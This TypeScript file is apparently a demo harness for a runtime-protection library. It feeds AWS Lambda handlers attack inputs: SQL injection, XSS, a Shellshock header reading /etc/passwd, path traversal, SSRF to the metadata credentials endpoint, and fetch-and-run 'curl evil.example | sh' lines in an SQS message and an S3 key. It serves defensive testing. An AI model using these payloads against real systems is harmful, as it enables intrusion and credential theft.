/**
 * AWS Lambda: real handlers wrapped with `protect()` (imported by package name, as a user would), fed
 * real-shaped events of every kind of trigger: HTTP API (also a gzip-compressed body), REST API,
 * Function URL, ALB, an SQS batch with one poisoned record, a Firehose transformation and S3 object keys.
 */
import { gzipSync } from 'node:zlib';
import type { Context, SQSBatchResponse } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from 'serverless-rasp/aws-lambda';
import * as ev from '../../test/helpers/lambda-events';
import { primary, ruleOf, short, whereOf, type Row } from './table';

let last: SecurityEvent[] = [];
const options = { log: false as const, onSecurityEvent: (e: SecurityEvent) => last.push(e) };

// --- Real handlers, as an application would write them -------------------------------------------
const ordersApi = protect(
  async (event: { body?: string }) => {
    const order = JSON.parse(event.body ?? '{}') as { sku?: string; qty?: number };
    return { statusCode: 201, body: JSON.stringify({ accepted: order.sku, qty: order.qty }) };
  },
  {
    ...options,
    schemas: {
      'POST /orders': {
        type: 'object',
        required: ['sku', 'qty'],
        additionalProperties: true,
        properties: { sku: { type: 'string', maxLength: 64 }, qty: { type: 'integer', minimum: 1, maximum: 100 } },
      },
    },
  },
);

const searchApi = protect(async (event: { queryStringParameters?: Record<string, string> }) => {
  return { statusCode: 200, body: JSON.stringify({ results: [], q: event.queryStringParameters?.q ?? '' }) };
}, options);

const processed: string[] = [];
const queueWorker = protect(async (event: { Records: Array<{ messageId: string }> }): Promise<SQSBatchResponse> => {
  processed.push(...event.Records.map((r) => r.messageId));
  return { batchItemFailures: [] };
}, options);

/** A Firehose transformation: every record's JSON gets a `ts` field, answered `Ok`. */
const enricher = protect(async (event: { records: Array<{ recordId: string; data: string }> }) => ({
  records: event.records.map((r) => ({
    recordId: r.recordId,
    result: 'Ok' as const,
    data: Buffer.from(JSON.stringify({ ...(JSON.parse(Buffer.from(r.data, 'base64').toString('utf8')) as object), ts: 1714564800 })).toString('base64'),
  })),
}), options);

const thumbnailer = protect(async (event: { Records: unknown[] }) => `resized ${event.Records.length} image(s)`, options);

export const lambdaContext = (): Context => ev.lambdaContext({ functionName: 'demo' });

/** The row for one invocation: the first finding of the security event it raised, if any. */
export function lambdaRow(trigger: string, input: string, verdict: string): Row {
  const f = primary(last[0]?.findings);
  last = [];
  return { provider: 'AWS', trigger, input: short(input), verdict, rule: ruleOf(f), where: whereOf(f) };
}

/** Security events raised since the last row (the sink example reads them too). */
export const lambdaEvents = {
  options,
  take(): SecurityEvent[] {
    const out = last;
    last = [];
    return out;
  },
};

export function httpVerdict(statusCode: number): string {
  return statusCode === 403 ? 'BLOCKED 403' : statusCode === 400 ? 'REJECTED 400' : `allowed ${statusCode}`;
}

async function http(rows: Row[], name: string, input: string, event: unknown, handler: (e: never, c: Context) => Promise<unknown>): Promise<void> {
  const res = (await handler(event as never, lambdaContext())) as { statusCode: number };
  rows.push(lambdaRow(name, input, httpVerdict(res.statusCode)));
}

export async function runLambda(rows: Row[]): Promise<void> {
  const json = { 'content-type': 'application/json' };
  // HTTP API (v2): search box and orders.
  for (const q of ['running shoes', "O'Brien & Sons", "shoes' UNION SELECT email, password FROM users--", '<img src=x onerror=alert(document.cookie)>']) {
    await http(rows, 'HTTP API query', q, ev.apiGatewayV2({ routeKey: 'GET /search', path: '/search', query: { q } }), searchApi);
  }
  const orders: Array<[string, string]> = [
    ['{"sku":"TSHIRT-42","qty":2}', JSON.stringify({ sku: 'TSHIRT-42', qty: 2 })],
    ['{"sku":"TSHIRT-42","qty":-5}', JSON.stringify({ sku: 'TSHIRT-42', qty: -5 })],
    ['{"sku":{"$ne":null},"qty":1}', JSON.stringify({ sku: { $ne: null }, qty: 1 })],
    ['{"__proto__":{"isAdmin":true},...}', '{"__proto__":{"isAdmin":true},"sku":"A","qty":1}'],
  ];
  for (const [label, raw] of orders) {
    await http(rows, 'HTTP API body', label, ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', body: raw, headers: json }), ordersApi);
  }
  // An XML (SOAP) body: every attribute value and text node is inspected on its own.
  const soap = (item: string): string =>
    `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetPrice><Item>${item}</Item></GetPrice></soap:Body></soap:Envelope>`;
  for (const item of ['blue mug', "mug' UNION SELECT card_number FROM payments--"]) {
    await http(rows, 'HTTP API body (SOAP)', `<Item>${item}</Item>`, ev.apiGatewayV2({ routeKey: 'POST /prices', path: '/prices', method: 'POST', body: soap(item), headers: { 'content-type': 'application/soap+xml' } }), searchApi);
  }
  // The same order API, its body gzip-compressed (Content-Encoding: gzip, base64 in the event): inflated
  // before inspection, as the application's body parser would.
  const gz = (o: object): string => gzipSync(Buffer.from(JSON.stringify(o))).toString('base64');
  await http(rows, 'HTTP API body (gzip)', `{"sku":"x' OR 1=1--","qty":1} gzipped`, ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', body: gz({ sku: "x' OR 1=1--", qty: 1 }), isBase64Encoded: true, headers: { ...json, 'content-encoding': 'gzip' } }), ordersApi);
  // REST API (v1): header and path parameter.
  await http(rows, 'REST API header', 'User-Agent: () { :; }; /bin/cat /etc/passwd', ev.apiGatewayV1({ headers: { 'User-Agent': '() { :; }; /bin/cat /etc/passwd' } }), searchApi);
  await http(rows, 'REST API path', '/files/..%2f..%2f..%2fetc%2fpasswd', ev.apiGatewayV1({ resource: '/files/{name}', path: '/files/..%2f..%2f..%2fetc%2fpasswd', pathParameters: { name: '../../../etc/passwd' } }), searchApi);
  // Function URL with a webhook target (SSRF) and ALB with a cookie.
  await http(rows, 'Function URL body', '{"callback":"http://169.254.169.254/latest/..."}', ev.functionUrl({ method: 'POST', body: JSON.stringify({ callback: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }), headers: json }), searchApi);
  await http(rows, 'Function URL body', '{"callback":"https://hooks.example.com/x"}', ev.functionUrl({ method: 'POST', body: JSON.stringify({ callback: 'https://hooks.example.com/x' }), headers: json }), searchApi);
  await http(rows, 'ALB cookie', 'theme=dark', ev.alb({ cookies: { theme: 'dark' } }), searchApi);
  await http(rows, 'ALB query', 'next=javascript:alert(1)', ev.alb({ query: { next: 'javascript:alert(1)' } }), searchApi);

  // SQS batch: one poisoned message among clean ones.
  const batch = ev.sqs([
    { body: JSON.stringify({ customer: 'Ann Lee', note: 'leave at the door; ring twice' }), messageId: 'msg-1' },
    { body: JSON.stringify({ customer: 'x', note: '$(curl -s http://evil.example/p.sh | sh)' }), messageId: 'msg-2' },
    { body: JSON.stringify({ customer: 'Bo', note: 'fragile' }), messageId: 'msg-3' },
  ]);
  const sqsRes = (await queueWorker(batch as never, lambdaContext())) as SQSBatchResponse;
  const events = lambdaEvents.take();
  batch.Records.forEach((r, i) => {
    const failed = sqsRes.batchItemFailures.some((f) => f.itemIdentifier === r.messageId);
    const f = primary(events.find((e) => e.requestId?.endsWith(`#${i}`))?.findings);
    rows.push({
      provider: 'AWS',
      trigger: 'SQS record',
      input: short(r.body),
      verdict: failed ? 'BLOCKED → DLQ' : processed.includes(r.messageId) ? 'processed' : 'not processed',
      rule: ruleOf(f),
      where: whereOf(f),
    });
  });

  // Kinesis Data Firehose transformation: a poisoned record goes to the error output (ProcessingFailed),
  // the others are transformed by the handler.
  const fh = [
    { recordId: 'fh-1', doc: { page: '/products/42', referrer: 'https://www.example.org/' } },
    { recordId: 'fh-2', doc: { page: '/products/42', referrer: '<script src=//evil.example/k.js></script>' } },
  ];
  const fhRes = (await enricher(
    {
      invocationId: 'a1b2c3d4-0000-4000-8000-000000000001',
      deliveryStreamArn: 'arn:aws:firehose:us-east-1:123456789012:deliverystream/clicks-to-s3',
      region: 'us-east-1',
      records: fh.map((r) => ({ recordId: r.recordId, approximateArrivalTimestamp: 1714564800000, data: Buffer.from(JSON.stringify(r.doc)).toString('base64') })),
    } as never,
    lambdaContext(),
  )) as { records: Array<{ recordId: string; result: string }> };
  const fhEvents = lambdaEvents.take();
  fh.forEach((r, i) => {
    const result = fhRes.records.find((x) => x.recordId === r.recordId)?.result ?? 'missing';
    const f = primary(fhEvents.find((e) => e.requestId?.endsWith(`#${i}`))?.findings);
    rows.push({
      provider: 'AWS',
      trigger: 'Firehose record',
      input: short(JSON.stringify(r.doc)),
      verdict: result === 'ProcessingFailed' ? 'BLOCKED → failed output' : `processed (${result})`,
      rule: ruleOf(f),
      where: whereOf(f),
    });
  });

  // S3: a shell command hidden in an object key, which no WAF ever sees.
  for (const key of ['photos/2024/beach day.jpg', 'photos/x.jpg;curl evil.example|sh']) {
    try {
      await thumbnailer(ev.s3([{ key }]) as never, lambdaContext());
      rows.push(lambdaRow('S3 object key', key, 'processed'));
    } catch (err) {
      rows.push(lambdaRow('S3 object key', key, err instanceof RequestBlockedError ? 'BLOCKED (throw)' : `error: ${(err as Error).message}`));
    }
  }
}
